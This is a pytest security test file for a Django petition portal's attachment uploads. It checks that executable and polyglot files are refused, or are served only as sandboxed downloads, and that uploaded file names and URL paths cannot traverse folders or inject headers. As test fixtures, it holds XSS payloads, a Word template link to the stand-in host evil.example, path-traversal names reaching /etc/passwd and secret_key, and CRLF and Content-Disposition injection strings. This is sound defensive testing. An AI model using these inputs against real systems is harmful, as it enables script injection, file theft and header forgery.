"""Files that are two things at once, names that lead elsewhere: nothing of them ever runs in the portal's pages."""

import io
import zipfile

import pytest
from django.core.files.storage import default_storage
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from cases.models import Attachment, Petition
from fedportal.accounts.models import User
from fedportal.accounts.roles import Role
from tests.cases.samples import petition
from tests.cases.test_attachments import sent, word
from tests.factories import ProvinceTree, user

SCRIPT = b"<html><script>fetch('/petitions/')</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
LINKED = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="'
    b'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


@pytest.fixture
def handler(tree: ProvinceTree, law: None) -> User:
    return user(tree.bincheng, Role.RECEPTIONIST, Role.HANDLER)


@pytest.fixture
def row(handler: User) -> Petition:
    return petition(handler, at=timezone.now())


def picture(kind: str, comment: bytes) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, kind)
    return file.getvalue() + comment


def linked_word() -> bytes:
    file = io.BytesIO(word())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", LINKED)
    return file.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.html", SCRIPT),
        ("a.pdf", SCRIPT),
        ("a.svg", SVG),
        ("a.png", SVG),
        ("a.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
        ("a.jpg", b"GIF89a" + SCRIPT),
        ("a.js", b"alert(1)"),
        ("a.xml", b"<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?><a/>"),
        ("a.exe", b"MZ" + b"\0" * 100),
        ("a.pdf", b"MZ" + b"\0" * 100),
        ("a.docx", b"PK\x03\x04" + b"\0" * 100),
        ("a.swf", b"CWS\x0a" + b"\0" * 100),
    ],
)
def test_what_a_browser_could_run_is_not_kept(
    client: Client, handler: User, row: Petition, name: str, content: bytes
) -> None:
    answer = sent(client, handler, row, (name, content))

    assert answer.status_code == 200
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.pdf", b"%PDF-1.7\n" + SCRIPT + b"\n%%EOF"),
        ("a.html", b"%PDF-1.7\n" + SCRIPT),
        ("a.docx", linked_word()),
        ("a.docx.html", word() + SCRIPT),
    ],
)
def test_a_file_that_is_two_things_is_only_ever_saved(
    client: Client, handler: User, row: Petition, name: str, content: bytes
) -> None:
    sent(client, handler, row, (name, content))

    made = Attachment.objects.get()
    answer = client.get(reverse("cases:attachment", args=[made.pk]))
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert "default-src 'none'" in answer["Content-Security-Policy"]
    assert answer["Content-Type"] in {"application/pdf", made.kind.media_type}
    assert "html" not in answer["Content-Type"]
    assert not made.name.endswith(".html")


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_picture_with_a_page_behind_it_is_only_the_picture(
    client: Client, handler: User, row: Petition, kind: str
) -> None:
    """Pictures are drawn anew, so that nothing of what hung on them is left; and they alone are shown."""
    sent(client, handler, row, ("a.png", picture(kind, SCRIPT)))

    answer = client.get(reverse("cases:attachment", args=[Attachment.objects.get().pk]))
    assert b"<script" not in answer.content
    assert answer["Content-Type"] in {"image/png", "image/jpeg"}


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd.pdf",
        "..\\..\\windows\\win.pdf",
        "/etc/cron.d/a.pdf",
        "C:\\a.pdf",
        "....//....//a.pdf",
        "%2e%2e%2fa.pdf",
        "a\u202efdp.exe.pdf",
        'a"; filename=b.html; x=".pdf',
        "a\r\nSet-Cookie: stolen=1.pdf",
        "con.pdf",
        "." * 300 + ".pdf",
        "a" * 5000 + ".pdf",
        "\x00a.pdf",
    ],
)
def test_a_name_leads_nowhere_and_makes_no_header(client: Client, handler: User, row: Petition, name: str) -> None:
    sent(client, handler, row, (name, b"%PDF-1.7\n%%EOF"))

    for made in Attachment.objects.all():
        assert ".." not in made.file.name
        assert made.file.path.startswith(str(default_storage.location))
        assert "/" not in made.name
        assert "\\" not in made.name
        assert "\u202e" not in made.name
        answer = client.get(reverse("cases:attachment", args=[made.pk]))
        assert answer["Content-Disposition"].startswith("attachment")
        assert "\n" not in str(answer.headers["Content-Disposition"])
        assert not answer.cookies.get("stolen")


@pytest.mark.parametrize(
    "path", ["../secret_key", "..%2f..%2fvar%2fsecret_key", "%2e%2e/%2e%2e/var/secret_key", "a/../../b"]
)
@pytest.mark.parametrize("below", ["/static/", "/petitions/attachments/", "/petitions/templates/", "/"])
def test_no_address_leads_out_of_its_folder(client: Client, handler: User, below: str, path: str) -> None:
    client.force_login(handler)

    answer = client.get(below + path)

    assert answer.status_code in {301, 302, 403, 404}
